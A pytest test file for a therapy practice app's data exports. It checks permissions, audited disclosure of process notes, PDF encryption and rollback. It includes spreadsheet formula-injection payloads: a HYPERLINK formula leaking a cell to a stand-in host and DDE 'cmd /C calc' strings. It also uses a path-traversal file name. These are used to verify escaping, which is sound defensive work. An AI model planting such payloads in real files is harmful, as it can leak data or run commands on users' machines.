"""Exports: a client's access request (PDF and JSON) and the whole practice as plain files,
read back from disk as the client or a spreadsheet would."""

from __future__ import annotations

import csv
import io
import json
import stat
import tempfile

import pytest
from pypdf import PdfReader

from practice_desk.domain.audit import AuditAction
from practice_desk.domain.clients import ClientDetails
from practice_desk.domain.contracts import CoachingTerms, ReportItem
from practice_desk.domain.disclosure import DisclosureRefused
from practice_desk.domain.fields import FieldInvalid
from practice_desk.domain.progress_markers import MarkerKind
from practice_desk.domain.session_notes import NoteField
from practice_desk.services import practice_export
from practice_desk.services.exports import (
    WHOLE_EXPORT_WARNING,
    ExportRefused,
    UnprotectedExportNotConfirmed,
)
from tests.conftest import snapshot
from tests.services.conftest import audit_entries
from tests.services.document_support import (
    ADDENDUM,
    MARKER,
    NOTE,
    PROCESS,
    flat,
    pdf_text,
    signed_session,
)
from tests.services.session_support import (
    MONDAY,
    book_session,
    coaching_client,
    edge_therapy_client,
    move_clock_to,
    plain_therapy_client,
)

OTHER = "OTHER-CLIENT-WREN-3370"
REASON = "Client asked for the full record, 12 Jan"
INJECTIONS = (
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
)


@pytest.fixture
def practice(calendar_practice):
    return calendar_practice


@pytest.fixture
def watched_tmp(tmp_path, monkeypatch):
    """The system temp folder, pointed somewhere we can see: exports must leave nothing there."""
    folder = tmp_path / "system-tmp"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    for name in ("TMPDIR", "TEMP", "TMP"):
        monkeypatch.setenv(name, str(folder))
    return folder


@pytest.fixture
def out(tmp_path):
    folder = tmp_path / "out"
    folder.mkdir()
    return folder


def other_clients_session(practice, clock, *, hour=14):
    """A second client with a session, every word of it marked OTHER."""
    client_id, contract = plain_therapy_client(practice)
    practice.clients.update(
        client_id,
        ClientDetails(practice.clients.get(client_id).details.display_name, notes=OTHER),
    )
    appointment = book_session(practice, client_id, contract, hour=hour, day=MONDAY)
    move_clock_to(clock, appointment.starts_at)
    session = practice.sessions.start(appointment_id=appointment.id)
    practice.sessions.save_text(session.id, NoteField.WORKING_NOTES, f"{OTHER} note")
    practice.sessions.add_marker(session.id, MarkerKind.INSIGHT, text=f"{OTHER} marker")
    practice.sessions.save_process_note(session.id, f"{OTHER} process")
    clock.advance(minutes=50)
    practice.sessions.sign(session.id)
    return client_id


def exported(practice, action):
    return [entry for entry in audit_entries(practice) if entry.action == action.value]


# --- the client's access request --------------------------------------------------------------


def test_an_access_request_writes_the_record_as_pdf_and_json(practice, clock, out, watched_tmp):
    client_id, contract = edge_therapy_client(practice)
    signed_session(practice, clock, client_id, contract, day=MONDAY)
    other_clients_session(practice, clock)
    name = practice.clients.get(client_id).details.display_name

    result = practice.exports.client_access(client_id, out)

    assert sorted(path.name for path in out.iterdir()) == [
        f"client-record-{client_id}-2026-01-12.json",
        f"client-record-{client_id}-2026-01-12.pdf",
    ]
    for part in name.split():
        assert part not in result.pdf_path.name and part not in result.json_path.name
    assert list(watched_tmp.iterdir()) == []
    for path in (result.pdf_path, result.json_path):
        assert stat.S_IMODE(path.stat().st_mode) == 0o600

    text = flat(pdf_text(result.pdf_path.read_bytes()))
    assert name in text and "CONFIDENTIAL" in text
    assert f"{NOTE} agenda" in text and f"{MARKER} insight" in text and ADDENDUM in text
    assert OTHER not in text and PROCESS not in text
    assert result.pages >= 1 and not result.pdf_protected

    raw = result.json_path.read_text("utf-8")
    data = json.loads(raw)
    assert list(data)[:4] == ["format", "version", "exported_at", "about"]
    assert data["format"] == "practice-desk/client-export" and data["version"] == 1
    assert data["client"]["id"] == client_id and data["client"]["display_name"] == name
    assert data["practice"]["practice_name"] == "Harbour Practice"
    (session,) = data["sessions"]
    assert session["status"] == "signed"
    assert session["started_at"].startswith("2026-01-12T10:00:00+01:00")
    assert session["note"]["agenda"] == f"{NOTE} agenda"
    assert [marker["text"] for marker in session["markers"]] == [
        f"{MARKER} insight",
        f"{MARKER} takeaway",
    ]
    assert session["addenda"][0]["text"].startswith(ADDENDUM)
    assert [phase["phase"] for phase in session["phases"]] == ["beginning", "middle", "end"]
    assert "process_notes" not in session and data["process_notes_included"] is None
    (contract_data,) = data["contracts"]
    assert contract_data["kind"] == "therapy"
    assert contract_data["therapy_terms"]["coaching_edge"] is True
    assert [goal["text"] for goal in contract_data["goals"]] == [
        goal.text for goal in contract.terms.goals
    ]
    assert data["appointments"][0]["status"] == "attended"
    assert OTHER not in raw and PROCESS not in raw

    (entry,) = exported(practice, AuditAction.CLIENT_EXPORTED)
    assert entry.client_id == client_id and entry.detail == "pdf+json"
    assert exported(practice, AuditAction.PROCESS_NOTES_DISCLOSED) == []


def test_process_notes_go_along_only_with_a_reason_which_is_kept_and_audited(practice, clock, out):
    client_id, contract = plain_therapy_client(practice)
    session, _ = signed_session(practice, clock, client_id, contract, day=MONDAY)

    result = practice.exports.client_access(
        client_id, out, include_process_notes_reason=f"  {REASON} "
    )

    text = flat(pdf_text(result.pdf_path.read_bytes()))
    assert PROCESS in text and REASON in text and "included deliberately" in text
    data = json.loads(result.json_path.read_text("utf-8"))
    assert data["process_notes_included"] == {"reason": REASON}
    assert data["sessions"][0]["process_notes"].startswith(PROCESS)
    assert result.process_notes_sessions == 1
    (disclosed,) = exported(practice, AuditAction.PROCESS_NOTES_DISCLOSED)
    assert disclosed.object_id == session.id and REASON not in disclosed.detail
    (entry,) = exported(practice, AuditAction.CLIENT_EXPORTED)
    assert entry.detail == "pdf+json;process_notes"
    rows = practice.conn.execute("SELECT session_id, reason FROM process_note_disclosures")
    assert rows.fetchall() == [(session.id, REASON)]


def test_an_empty_reason_is_not_a_reason(practice, clock, out):
    client_id, contract = plain_therapy_client(practice)
    signed_session(practice, clock, client_id, contract, day=MONDAY)

    with pytest.raises(FieldInvalid):
        practice.exports.client_access(client_id, out, include_process_notes_reason="   ")

    assert list(out.iterdir()) == []
    assert exported(practice, AuditAction.CLIENT_EXPORTED) == []


def test_a_refusal_is_audited_and_writes_nothing(practice, clock, out):
    client_id, contract = coaching_client(practice)
    signed_session(practice, clock, client_id, contract, day=MONDAY)

    with pytest.raises(DisclosureRefused):
        practice.exports.client_access(client_id, out, include_process_notes_reason=REASON)

    assert list(out.iterdir()) == []
    assert exported(practice, AuditAction.CLIENT_EXPORTED) == []
    assert audit_entries(practice)[-1].detail == "process_notes_not_therapy"


def test_a_coaching_record_holds_approved_sponsor_reports_but_not_drafts(practice, clock, out):
    terms = CoachingTerms(
        sponsor_organisation="Contoso GmbH",
        reporting_scope="Attendance and a summary",
        report_items=frozenset({ReportItem.ATTENDANCE, ReportItem.SUMMARY}),
    )
    client_id, contract = coaching_client(practice, coaching=terms)
    signed_session(practice, clock, client_id, contract, day=MONDAY)
    approved = practice.sponsor_reports.write(contract.id, MONDAY, MONDAY, "SUMM-APPROVED-1")
    practice.sponsor_reports.approve(approved.id, "Read together in the session")
    practice.sponsor_reports.write(contract.id, MONDAY, MONDAY, "SUMM-DRAFT-2")
    practice.clients.write_referral_note(client_id, "Dr Rivers", "REFERRAL-BODY-7")

    result = practice.exports.client_access(client_id, out)

    data = json.loads(result.json_path.read_text("utf-8"))
    (report,) = data["sponsor_reports"]
    assert report["summary"] == "SUMM-APPROVED-1"
    assert report["sponsor_organisation"] == "Contoso GmbH"
    assert report["attendance"] == [{"day": "2026-01-12", "status": "Attended"}]
    assert "SUMM-DRAFT-2" not in result.json_path.read_text("utf-8")
    coaching = data["contracts"][0]["coaching_terms"]
    assert coaching["report_items"] == ["attendance", "summary"]
    assert data["referral_notes"][0]["text"] == "REFERRAL-BODY-7"


def test_invoices_are_part_of_the_record(practice, clock, out):
    client_id, contract = plain_therapy_client(practice, fee_minor=9000)
    _, appointment = signed_session(practice, clock, client_id, contract, day=MONDAY)
    invoice = practice.invoices.issue(client_id, [appointment.id])

    result = practice.exports.client_access(client_id, out)

    (bill,) = json.loads(result.json_path.read_text("utf-8"))["invoices"]
    assert bill["number"] == invoice.number
    assert bill["total_minor"] == 9000 and bill["lines"][0]["service"] == "session"
    assert bill["paid_on"] is None


def test_a_protected_pdf_and_a_chosen_file_name(practice, clock, out):
    client_id, contract = plain_therapy_client(practice)
    signed_session(practice, clock, client_id, contract, day=MONDAY)

    result = practice.exports.client_access(
        client_id, out, pdf_password="harbour-lights-42", base_name="for-the-client.pdf"
    )

    assert result.pdf_path.name == "for-the-client.pdf"
    assert result.json_path.name == "for-the-client.json"
    reader = PdfReader(io.BytesIO(result.pdf_path.read_bytes()))
    assert reader.is_encrypted and reader.decrypt("harbour-lights-42") != 0
    assert exported(practice, AuditAction.CLIENT_EXPORTED)[0].detail == "pdf+json;pdf_protected"
    with pytest.raises(FieldInvalid):
        practice.exports.client_access(client_id, out, base_name="../elsewhere")
    with pytest.raises(FieldInvalid):
        practice.exports.client_access(client_id, out, pdf_password="short")


def test_a_client_without_sessions_still_gets_their_details(practice, out):
    client_id, _ = plain_therapy_client(practice)

    result = practice.exports.client_access(client_id, out)

    data = json.loads(result.json_path.read_text("utf-8"))
    assert data["sessions"] == [] and data["client"]["id"] == client_id
    assert "There are no sessions in this period" in flat(pdf_text(result.pdf_path.read_bytes()))


def test_a_missing_folder_is_refused(practice, tmp_path):
    client_id, _ = plain_therapy_client(practice)
    with pytest.raises(ExportRefused):
        practice.exports.client_access(client_id, tmp_path / "not-there")
    assert exported(practice, AuditAction.CLIENT_EXPORTED) == []


# --- the whole practice ------------------------------------------------------------------------


def all_tables(practice):
    return [
        name
        for (name,) in practice.conn.execute(
            "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite%'"
        )
    ]


def read_csv(path):
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def test_the_whole_export_is_refused_until_the_practitioner_understands(practice, out):
    before = len(audit_entries(practice))
    home = snapshot(practice.files.home)

    with pytest.raises(UnprotectedExportNotConfirmed) as refused:
        practice.exports.whole_practice(out, understood_unprotected=False)

    assert refused.value.message == WHOLE_EXPORT_WARNING
    assert "not encrypted" in WHOLE_EXPORT_WARNING
    assert list(out.iterdir()) == []
    assert len(audit_entries(practice)) == before
    assert snapshot(practice.files.home).keys() == home.keys()


def test_every_table_is_exported_as_json_and_csv(practice, clock, out, watched_tmp):
    client_id, contract = edge_therapy_client(practice)
    signed_session(practice, clock, client_id, contract, day=MONDAY)
    other_clients_session(practice, clock)

    result = practice.exports.whole_practice(out, understood_unprotected=True)

    assert [path.name for path in out.iterdir()] == ["practice-desk-export-2026-01-12-145000"]
    assert result.folder == out / "practice-desk-export-2026-01-12-145000"
    assert stat.S_IMODE(result.folder.stat().st_mode) == 0o700
    assert list(watched_tmp.iterdir()) == []
    tables = all_tables(practice)
    names = sorted(path.name for path in result.folder.iterdir())
    assert names == sorted(["practice.json", "README.txt", *(f"{table}.csv" for table in tables)])
    for path in result.folder.iterdir():
        assert stat.S_IMODE(path.stat().st_mode) == 0o600

    data = json.loads(result.json_path.read_text("utf-8"))
    assert data["meta"]["format"] == "practice-desk/practice-export"
    assert data["meta"]["schema_version"] == practice.health_report().data_version
    assert sorted(data["tables"]) == sorted(tables)
    for table in tables:
        (count,) = practice.conn.execute(f'SELECT count(*) FROM "{table}"').fetchone()
        rows = read_csv(result.folder / f"{table}.csv")
        assert rows[0] == data["meta"]["columns"][table]
        assert len(rows) - 1 == count == len(data["tables"][table]) == result.tables[table]
    assert result.rows == sum(result.tables.values())
    # Everything, process notes included: this is the practitioner's own data.
    raw = result.json_path.read_text("utf-8")
    assert PROCESS in raw and OTHER in raw and NOTE in raw
    # The trail inside the export ends with the export itself.
    assert data["tables"]["audit_log"][-1]["action"] == "practice_exported"
    (entry,) = exported(practice, AuditAction.PRACTICE_EXPORTED)
    assert entry.detail == f"{len(tables)} tables" and entry.client_id is None


def test_csv_cells_are_guarded_against_formula_injection_and_json_is_not(practice, clock, out):
    client_id, contract = plain_therapy_client(practice)
    name = practice.clients.get(client_id).details.display_name
    practice.clients.update(client_id, ClientDetails(name, notes=INJECTIONS[0]))
    appointment = book_session(practice, client_id, contract, day=MONDAY)
    move_clock_to(clock, appointment.starts_at)
    session = practice.sessions.start(appointment_id=appointment.id)
    practice.sessions.save_text(session.id, NoteField.WORKING_NOTES, INJECTIONS[1])
    practice.sessions.add_marker(session.id, MarkerKind.INSIGHT, text=INJECTIONS[2])
    practice.sessions.add_marker(session.id, MarkerKind.STRENGTH, text=INJECTIONS[3])

    result = practice.exports.whole_practice(out, understood_unprotected=True)

    def column(table, name):
        header, *rows = read_csv(result.folder / f"{table}.csv")
        return [row[header.index(name)] for row in rows]

    assert column("clients", "notes") == ["'" + INJECTIONS[0]]
    assert column("sessions", "working_notes") == ["'" + INJECTIONS[1]]
    assert sorted(column("progress_markers", "text")) == sorted(
        ["'" + INJECTIONS[2], "'" + INJECTIONS[3]]
    )
    for table in all_tables(practice):
        for row in read_csv(result.folder / f"{table}.csv"):
            for cell in row:
                assert not cell or cell[0] not in "=+-@\t\r\n", (table, cell)
    # Numbers stay numbers: ids and fees are plain digits, never quoted.
    assert column("clients", "id") == [str(client_id)]

    data = json.loads(result.json_path.read_text("utf-8"))
    (client,) = data["tables"]["clients"]
    assert client["notes"] == INJECTIONS[0] and client["id"] == client_id
    (stored,) = data["tables"]["sessions"]
    assert stored["working_notes"] == INJECTIONS[1]
    texts = sorted(marker["text"] for marker in data["tables"]["progress_markers"])
    assert texts == sorted(INJECTIONS[2:])


def test_a_table_added_later_is_exported_without_changing_the_export(practice, out):
    # A later migration (retention, say) adds a table: the export finds it in the schema.
    practice.conn.execute("CREATE TABLE later_feature (id INTEGER PRIMARY KEY, note TEXT)")
    practice.conn.execute("INSERT INTO later_feature (note) VALUES ('=1+1'), (NULL)")

    result = practice.exports.whole_practice(out, understood_unprotected=True)

    assert read_csv(result.folder / "later_feature.csv") == [
        ["id", "note"],
        ["1", "'=1+1"],
        ["2", ""],
    ]
    data = json.loads(result.json_path.read_text("utf-8"))
    assert data["tables"]["later_feature"] == [
        {"id": 1, "note": "=1+1"},
        {"id": 2, "note": None},
    ]


def test_an_export_cut_short_leaves_nothing_behind(practice, out, monkeypatch):
    before = len(audit_entries(practice))
    calls = []
    original = practice_export._write_table

    def failing(*args):
        calls.append(args)
        if len(calls) == 3:
            raise OSError("disk full")
        return original(*args)

    monkeypatch.setattr(practice_export, "_write_table", failing)

    with pytest.raises(OSError):
        practice.exports.whole_practice(out, understood_unprotected=True)

    assert list(out.iterdir()) == []
    assert len(audit_entries(practice)) == before


def test_an_existing_export_folder_is_never_mixed_into(practice, out):
    practice.exports.whole_practice(out, understood_unprotected=True)
    with pytest.raises(ExportRefused):
        practice.exports.whole_practice(out, understood_unprotected=True)
    assert len(list(out.iterdir())) == 1
    assert len(exported(practice, AuditAction.PRACTICE_EXPORTED)) == 1


def test_the_export_stamp_is_the_practice_time(practice, clock, out):
    # The clock starts at 09:00 UTC, which is 10:00 in the practice's Berlin time.
    result = practice.exports.whole_practice(out, understood_unprotected=True)
    assert result.folder.name == "practice-desk-export-2026-01-05-100000"
    meta = json.loads(result.json_path.read_text("utf-8"))["meta"]
    assert meta["exported_at"] == "2026-01-05T10:00:00+01:00"
